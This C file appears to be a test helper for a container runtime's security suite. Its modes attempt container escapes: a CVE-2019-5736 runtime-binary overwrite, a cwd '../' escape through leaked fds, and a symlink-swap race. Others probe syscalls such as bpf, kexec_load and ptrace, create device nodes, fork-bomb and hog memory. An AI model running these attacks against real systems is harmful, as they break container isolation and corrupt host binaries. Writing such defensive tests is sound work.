/* attack: a small static helper that the security tests copy into a
 * container's rootfs.  Each mode performs one attack step from inside the
 * container and prints a one-line verdict on stdout for the test to parse.
 * It never decides pass/fail itself: the tests do, from what it reports.
 *
 * Built by tests/security/conftest.py with `cc -static -O2`. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* fds: list every open fd but the one used to read /proc/self/fd. */
static int mode_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d) {
		printf("FDS-ERROR %s\n", strerror(errno));
		return 1;
	}
	struct dirent *e;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		int fd = atoi(e->d_name);
		if (fd == dirfd(d))
			continue;
		char path[64], target[4096] = "";
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		if (n >= 0)
			target[n] = 0;
		printf("FD %d %s\n", fd, target);
	}
	closedir(d);
	return 0;
}

/* cwd-escape REL: from the current directory, climb far up and open REL.
 * If the cwd is a host directory (a leaked fd), ".." never meets the
 * container's root and REL is read from the host. */
static int mode_cwd_escape(const char *rel)
{
	char cwd[4096] = "?";
	ssize_t n = readlink("/proc/self/cwd", cwd, sizeof(cwd) - 1);
	if (n >= 0)
		cwd[n] = 0;
	printf("CWD %s\n", cwd);
	char path[8192] = "";
	for (int i = 0; i < 64; i++)
		strcat(path, "../");
	strcat(path, rel);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		printf("BLOCKED %s\n", strerror(errno));
		return 0;
	}
	char buf[256] = "";
	n = read(fd, buf, sizeof(buf) - 1);
	if (n > 0)
		buf[n] = 0;
	buf[strcspn(buf, "\n")] = 0;
	printf("ESCAPED %s\n", buf);
	close(fd);
	return 0;
}

/* overwrite-exe DEV INO SECONDS: CVE-2019-5736.  Watch /proc for processes
 * (the runtime entering the container) whose executable has inode INO,
 * keep an O_PATH handle on it, and once the runtime stops running it,
 * reopen that handle for writing and scribble on the binary.  The
 * device+inode filter keeps the attack from ever touching any other file. */
static int mode_overwrite_exe(unsigned long long dev, unsigned long long ino, double seconds)
{
	int handles[64], nhandles = 0, seen_denied = 0, last_err = 0;
	double end = now() + seconds;
	pid_t self = getpid();
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d)) && nhandles < 64) {
			pid_t pid = atoi(e->d_name);
			if (pid <= 0 || pid == self)
				continue;
			char path[64];
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				if (errno == EACCES || errno == EPERM)
					seen_denied++;
				continue;
			}
			struct stat st;
			if (fstat(fd, &st) == 0 && st.st_ino == ino && st.st_dev == dev)
				handles[nhandles++] = fd;
			else
				close(fd);
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nhandles; i++) {
			char path[64];
			snprintf(path, sizeof(path), "/proc/self/fd/%d", handles[i]);
			int w = open(path, O_WRONLY | O_CLOEXEC);
			if (w < 0) {
				last_err = errno;
				continue;
			}
			ssize_t n = pwrite(w, "PWNED-BY-CONTAINER", 18, 0);
			printf("OVERWROTE %zd\n", n);
			return 0;
		}
		usleep(200);
	}
	if (nhandles)
		printf("FOUND-BUT-NOT-WRITABLE %d %s\n", nhandles, strerror(last_err));
	else
		printf("NOT-FOUND denied=%d\n", seen_denied);
	return 0;
}

static void report(const char *name, long rc)
{
	if (rc >= 0)
		printf("SYSCALL %s ALLOWED\n", name);
	else if (errno == EPERM || errno == EACCES || errno == ENOSYS)
		printf("SYSCALL %s DENIED %s\n", name, strerrorname_np(errno));
	else
		printf("SYSCALL %s REACHED %s\n", name, strerrorname_np(errno));
}

/* syscalls: try the calls a hardened profile denies; the arguments are
 * harmless (bogus or self-targeted) so a "REACHED" only means the call got
 * past seccomp and capabilities into the kernel's own checks. */
static int mode_syscalls(const char *scratch)
{
	errno = 0;
	report("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0));
	report("add_key",
	       syscall(SYS_add_key, "user", "husk-test", "x", 1, -2 /* process keyring */));
	char attr[128] = {0};
	report("bpf", syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, attr, sizeof(attr)));
	struct perf_event_attr pe = {.type = PERF_TYPE_SOFTWARE,
				     .size = sizeof(pe),
				     .config = PERF_COUNT_SW_TASK_CLOCK,
				     .disabled = 1};
	long fd = syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0);
	report("perf_event_open", fd);
	if (fd >= 0)
		close(fd);
	pid_t c = fork();
	if (c == 0)
		_exit(unshare(CLONE_NEWUSER) == 0 ? 0 : errno);
	int st = 0;
	waitpid(c, &st, 0);
	errno = WEXITSTATUS(st);
	report("unshare(CLONE_NEWUSER)", WEXITSTATUS(st) ? -1 : 0);
	c = fork();
	if (c == 0) {
		/* mount only in a private copy when the call is allowed at all */
		if (unshare(CLONE_NEWNS) == 0)
			mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		_exit(mount("none", scratch, "tmpfs", 0, NULL) == 0 ? 0 : errno);
	}
	waitpid(c, &st, 0);
	errno = WEXITSTATUS(st);
	report("mount", WEXITSTATUS(st) ? -1 : 0);
	report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0xffffffffUL));
	char handle[64] = {0};
	*(unsigned *)handle = 8; /* handle_bytes */
	report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, handle, O_RDONLY));
	/* ptrace another process: a child that stops itself */
	c = fork();
	if (c == 0) {
		pause();
		_exit(0);
	}
	long r = ptrace(PTRACE_ATTACH, c, NULL, NULL);
	int e = errno;
	if (r == 0)
		ptrace(PTRACE_DETACH, c, NULL, NULL);
	kill(c, SIGKILL);
	waitpid(c, NULL, 0);
	errno = e;
	report("ptrace", r);
	return 0;
}

/* ptrace-pid PID: attach to (and at once detach from) another process */
static int mode_ptrace_pid(pid_t pid)
{
	long r = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
	int e = errno;
	if (r == 0) {
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	errno = e;
	report("ptrace-pid", r);
	return 0;
}

/* forkbomb MAX: fork idle children until the kernel refuses, report how
 * many we got, then kill and reap them all. */
static int mode_forkbomb(int max)
{
	pid_t *kids = calloc(max, sizeof(*kids));
	int n = 0, err = 0;
	while (n < max) {
		pid_t p = fork();
		if (p < 0) {
			err = errno;
			break;
		}
		if (p == 0) {
			pause();
			_exit(0);
		}
		kids[n++] = p;
	}
	printf("FORKED %d %s\n", n, err ? strerrorname_np(err) : "none");
	fflush(stdout);
	for (int i = 0; i < n; i++)
		kill(kids[i], SIGKILL);
	for (int i = 0; i < n; i++)
		waitpid(kids[i], NULL, 0);
	return 0;
}

/* memhog MB: allocate and touch MB mebibytes; survive only if not limited */
static int mode_memhog(int mb)
{
	for (int i = 0; i < mb; i++) {
		char *p = malloc(1 << 20);
		if (!p) {
			printf("MALLOC-FAILED %d\n", i);
			return 0;
		}
		memset(p, i | 1, 1 << 20);
	}
	printf("ALLOCATED %d\n", mb);
	return 0;
}

static int mode_open(const char *path, const char *how)
{
	int flags = strcmp(how, "w") == 0 ? O_WRONLY : O_RDONLY;
	int fd = open(path, flags | O_CLOEXEC);
	if (fd < 0) {
		printf("OPEN-FAILED %s\n", strerrorname_np(errno));
		return 0;
	}
	if (flags == O_WRONLY) {
		ssize_t n = write(fd, "PWNED\n", 6);
		printf("WROTE %zd\n", n);
	} else {
		printf("OPENED\n");
	}
	close(fd);
	return 0;
}

static int mode_mknod(const char *path, const char *type, int maj, int min)
{
	mode_t m = (type[0] == 'b' ? S_IFBLK : S_IFCHR) | 0600;
	if (mknod(path, m, makedev(maj, min)) < 0) {
		printf("MKNOD-FAILED %s\n", strerrorname_np(errno));
		return 0;
	}
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	printf("MKNOD-OK open=%s\n", fd < 0 ? strerrorname_np(errno) : "ok");
	if (fd >= 0)
		close(fd);
	unlink(path);
	return 0;
}

/* stat PATH: type, device numbers and inode, without following links */
static int mode_stat(const char *path)
{
	struct stat st;
	if (lstat(path, &st) < 0) {
		printf("STAT-FAILED %s\n", strerrorname_np(errno));
		return 0;
	}
	const char *t = S_ISCHR(st.st_mode)   ? "char"
			: S_ISBLK(st.st_mode) ? "block"
			: S_ISLNK(st.st_mode) ? "link"
			: S_ISDIR(st.st_mode) ? "dir"
			: S_ISREG(st.st_mode) ? "file"
					      : "other";
	printf("STAT %s %u:%u ino=%llu\n", t, major(st.st_rdev), minor(st.st_rdev),
	       (unsigned long long)st.st_ino);
	return 0;
}

/* swap A B SECONDS: atomically exchange two names in a loop (a directory
 * and a symlink in a shared volume), to race a runtime's path checks. */
static int mode_swap(const char *a, const char *b, double seconds)
{
	double end = now() + seconds;
	long n = 0;
	while (now() < end) {
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* EXCHANGE */) < 0) {
			printf("SWAP-FAILED %s\n", strerrorname_np(errno));
			return 1;
		}
		n++;
	}
	printf("SWAPPED %ld\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		fprintf(stderr, "usage: attack MODE [args]\n");
		return 2;
	}
	const char *m = argv[1];
	if (!strcmp(m, "fds"))
		return mode_fds();
	if (!strcmp(m, "cwd-escape") && argc == 3)
		return mode_cwd_escape(argv[2]);
	if (!strcmp(m, "overwrite-exe") && argc == 5)
		return mode_overwrite_exe(strtoull(argv[2], NULL, 10), strtoull(argv[3], NULL, 10),
					  atof(argv[4]));
	if (!strcmp(m, "syscalls") && argc == 3)
		return mode_syscalls(argv[2]);
	if (!strcmp(m, "ptrace-pid") && argc == 3)
		return mode_ptrace_pid(atoi(argv[2]));
	if (!strcmp(m, "forkbomb") && argc == 3)
		return mode_forkbomb(atoi(argv[2]));
	if (!strcmp(m, "memhog") && argc == 3)
		return mode_memhog(atoi(argv[2]));
	if (!strcmp(m, "open") && argc == 4)
		return mode_open(argv[2], argv[3]);
	if (!strcmp(m, "mknod") && argc == 6)
		return mode_mknod(argv[2], argv[3], atoi(argv[4]), atoi(argv[5]));
	if (!strcmp(m, "swap") && argc == 5)
		return mode_swap(argv[2], argv[3], atof(argv[4]));
	if (!strcmp(m, "stat") && argc == 3)
		return mode_stat(argv[2]);
	if (!strcmp(m, "sleep") && argc == 3) {
		usleep((useconds_t)(atof(argv[2]) * 1e6));
		return 0;
	}
	fprintf(stderr, "attack: bad mode or arguments\n");
	return 2;
}
